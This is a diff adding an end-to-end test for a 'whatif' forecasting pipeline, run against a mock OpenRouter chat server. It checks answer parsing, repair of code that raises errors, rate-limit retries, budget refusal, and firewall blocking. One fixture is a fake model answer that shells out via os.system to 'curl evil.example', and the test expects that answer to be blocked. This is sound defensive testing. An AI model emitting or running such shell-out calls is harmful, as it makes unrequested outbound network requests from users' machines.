@@ -9,10 +9,14 @@
 #include "config.h"
 
 #include <math.h>
+#include <stdarg.h>
+#include <string.h>
 
 #include "wf-pipeline.h"
+#include "wf-pipeline-providers.h"
 #include "wf-store.h"
 #include "wf-templates.h"
+#include "mock/wf-mock-server.h"
 
 static char *db_path;
 
@@ -510,12 +514,231 @@ test_paste_python (void)
   g_assert_cmpint (blocked->id, >, 0);
 }
 
+/* ---- end to end with a mock OpenRouter speaking the real wire format ---- */
+
+typedef struct
+{
+  GMutex  lock;
+  GQueue  answers;      /* (element-type utf8): content, or "429" */
+  guint   hits;
+} Remote;
+
+static Remote remote;
+
+static void
+chat_handler (SoupServer        *server,
+              SoupServerMessage *msg,
+              const char        *path,
+              GHashTable        *query,
+              gpointer           user_data)
+{
+  g_autofree char *content = NULL;
+  g_autoptr(JsonBuilder) b = json_builder_new ();
+  g_autoptr(JsonNode) root = NULL;
+  g_autofree char *body = NULL;
+
+  g_mutex_lock (&remote.lock);
+  remote.hits++;
+  content = g_queue_pop_head (&remote.answers);
+  g_mutex_unlock (&remote.lock);
+  if (g_strcmp0 (content, "429") == 0)
+    {
+      soup_message_headers_replace (soup_server_message_get_response_headers (msg), "Retry-After", "1");
+      wf_mock_reply_json (msg, 429, "{\"error\":{\"code\":429,\"message\":\"Rate limit exceeded\"}}");
+      return;
+    }
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "id");
+  json_builder_add_string_value (b, "gen-test");
+  json_builder_set_member_name (b, "model");
+  json_builder_add_string_value (b, "openai/gpt-4o-mini");
+  json_builder_set_member_name (b, "choices");
+  json_builder_begin_array (b);
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "index");
+  json_builder_add_int_value (b, 0);
+  json_builder_set_member_name (b, "finish_reason");
+  json_builder_add_string_value (b, "stop");
+  json_builder_set_member_name (b, "message");
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "role");
+  json_builder_add_string_value (b, "assistant");
+  json_builder_set_member_name (b, "content");
+  json_builder_add_string_value (b, content ? content : "");
+  json_builder_end_object (b);
+  json_builder_end_object (b);
+  json_builder_end_array (b);
+  json_builder_set_member_name (b, "usage");
+  json_builder_begin_object (b);
+  json_builder_set_member_name (b, "prompt_tokens");
+  json_builder_add_int_value (b, 1000);
+  json_builder_set_member_name (b, "completion_tokens");
+  json_builder_add_int_value (b, 200);
+  json_builder_set_member_name (b, "total_tokens");
+  json_builder_add_int_value (b, 1200);
+  json_builder_set_member_name (b, "cost");
+  json_builder_add_double_value (b, 0.0012);
+  json_builder_end_object (b);
+  json_builder_end_object (b);
+  root = json_builder_get_root (b);
+  body = json_to_string (root, FALSE);
+  wf_mock_reply_json (msg, 200, body);
+}
+
+static const char good_code[] =
+  "import whatif as wf\\nrate = wf.param('Rate', 6, kind='percent')\\n"
+  "wf.metric('Yearly interest', 1000 * rate / 100, 'USD')\\n";
+
+static char *
+answer_json (const char *code)
+{
+  return g_strdup_printf ("{\"code\": \"%s\", \"explanation\": \"Interest on $1,000.\", \"language\": \"python\"}",
+                          code);
+}
+
+static WfRun *
+ask_remote (WfMockServer *server,
+            const char   *question,
+            const char   *first,
+            ...)
+{
+  g_autoptr(WfPipeline) pipeline = new_pipeline ();
+  g_autoptr(WfLlmProvider) provider = NULL;
+  g_autoptr(GError) error = NULL;
+  g_autofree char *url = g_strdup_printf ("%s/api/v1", wf_mock_server_get_url (server));
+  WfRunRequest *req = wf_run_request_new (WF_MODE_ASK, question);
+  const char *a;
+  va_list ap;
+  WfRun *run;
+
+  provider = wf_pipeline_provider_new_with_url ("openrouter", url);
+  wf_pipeline_add_provider (pipeline, provider);
+
+  g_mutex_lock (&remote.lock);
+  remote.hits = 0;
+  g_queue_clear_full (&remote.answers, g_free);
+  va_start (ap, first);
+  for (a = first; a != NULL; a = va_arg (ap, const char *))
+    g_queue_push_tail (&remote.answers, g_strdup (a));
+  va_end (ap);
+  g_mutex_unlock (&remote.lock);
+  wf_mock_server_clear_requests (server);
+
+  req->provider = g_strdup ("openrouter");
+  req->model = g_strdup ("openai/gpt-4o-mini");
+  run = wf_pipeline_run_sync (pipeline, req, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (run->id, >, 0);
+  return run;
+}
+
+static char *
+request_body (WfMockServer *server,
+              guint         index)
+{
+  g_autoptr(GPtrArray) requests = wf_mock_server_dup_requests (server);
+  WfMockRequest *r;
+
+  g_assert_cmpuint (requests->len, >, index);
+  r = g_ptr_array_index (requests, index);
+  return g_strndup (r->body ? (const char *) g_bytes_get_data (r->body, NULL) : "",
+                    r->body ? g_bytes_get_size (r->body) : 0);
+}
+
+static void
+test_remote (void)
+{
+  g_autoptr(WfMockServer) server = wf_mock_server_new ();
+  g_autoptr(WfStore) store = open_store ();
+  g_autoptr(GError) error = NULL;
+  g_autofree char *good = answer_json (good_code);
+  g_autofree char *fenced = g_strdup_printf ("Sure! Here it is:\n```json\n%s\n```\n", good);
+  g_autofree char *blocked = answer_json ("import os\\nos.system('curl evil.example')\\n");
+  g_autofree char *raises = answer_json ("import whatif as wf\\nraise ValueError('boom in the model code')\\n");
+  g_autofree char *body = NULL;
+  const char *question = "forecast the interest I earn on 1000 dollars deposited at 6% with my bank";
+  WfBudgetLimits limits;
+  WfSpendTotals totals = { 0 };
+  WfRun *run;
+
+  wf_mock_server_add_handler (server, "/api/v1/chat/completions", chat_handler, NULL, NULL);
+
+  /* Good code: answered, the prompt sent is the versioned one, cost settled. */
+  run = ask_remote (server, question, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpfloat_with_epsilon (find_metric (run, "Yearly interest")->value, 60.0, 1e-9);
+  g_assert_cmpuint (remote.hits, ==, 1);
+  g_assert_cmpuint (run->fixes->len, ==, 0);
+  g_assert_cmpint (run->total_micros, ==, 1200);
+  body = request_body (server, 0);
+  g_assert_nonnull (strstr (body, "prompt v1"));
+  g_assert_nonnull (strstr (body, "wf.param"));
+  g_assert_nonnull (strstr (body, "1000 dollars"));
+  g_assert_true (wf_store_ledger_totals (store, 0, G_MAXINT64, 0, g_get_real_time (), &totals, &error));
+  g_assert_cmpint (totals.settled_micros, >=, 1200);
+  g_assert_cmpint (totals.reserved_micros, ==, 0);
+  wf_run_free (run);
+
+  /* Fenced JSON: repaired locally, no second call. */
+  run = ask_remote (server, question, fenced, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 1);
+  g_assert_cmpuint (run->fixes->len, >, 0);
+  wf_run_free (run);
+
+  /* Code the firewall blocks: never executed. */
+  run = ask_remote (server, question, blocked, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_BLOCKED);
+  g_assert_null (run->result);
+  g_assert_nonnull (run->verdict_json);
+  wf_run_free (run);
+
+  /* Code that raises: one repair round with the error, then answered. */
+  run = ask_remote (server, question, raises, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  g_clear_pointer (&body, g_free);
+  body = request_body (server, 1);
+  g_assert_nonnull (strstr (body, "boom in the model code"));
+  g_assert_cmpint (run->total_micros, ==, 2400);
+  wf_run_free (run);
+
+  /* Code that keeps raising: the run stands as failed after one repair. */
+  run = ask_remote (server, question, raises, raises, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_FAILED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  g_assert_nonnull (strstr (run->message, "boom"));
+  wf_run_free (run);
+
+  /* 429 then success: the HTTP layer retries. */
+  run = ask_remote (server, question, "429", good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_ANSWERED);
+  g_assert_cmpuint (remote.hits, ==, 2);
+  wf_run_free (run);
+
+  /* Budget used up: refused before any call, the offline route offered. */
+  g_assert_true (wf_store_get_budget_limits (store, &limits, &error));
+  limits.monthly_micros = 1000;
+  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
+  run = ask_remote (server, question, good, NULL);
+  g_assert_cmpint (run->outcome, ==, WF_OUTCOME_OVER_BUDGET);
+  g_assert_cmpuint (remote.hits, ==, 0);
+  g_assert_nonnull (strstr (run->message, "offline"));
+  wf_run_free (run);
+  limits.monthly_micros = -1;
+  g_assert_true (wf_store_set_budget_limits (store, &limits, &error));
+  g_assert_true (wf_store_check_integrity (store, &error));
+}
+
 int
 main (int argc, char **argv)
 {
   g_autofree char *dir = NULL;
   int ret;
 
+  /* Before any thread exists: setenv is not thread-safe. */
+  g_setenv ("OPENROUTER_API_KEY", "sk-or-v1-test0000000000000000000000000000", TRUE);
+  g_setenv ("WHATIF_HTTP_TEST_SPEEDUP", "20", TRUE);
   g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);
   dir = g_dir_make_tmp ("test-pipeline-XXXXXX", NULL);
   db_path = g_build_filename (dir, "whatif.db", NULL);
@@ -530,6 +753,9 @@ main (int argc, char **argv)
   g_test_add_func ("/pipeline/async-progress", test_async_progress);
   g_test_add_func ("/pipeline/cancel", test_cancel);
   g_test_add_func ("/pipeline/paste-python", test_paste_python);
+  g_test_add_func ("/pipeline/remote", test_remote);
+  g_mutex_init (&remote.lock);
+  g_queue_init (&remote.answers);
   ret = g_test_run ();
   g_free (db_path);
   return ret;
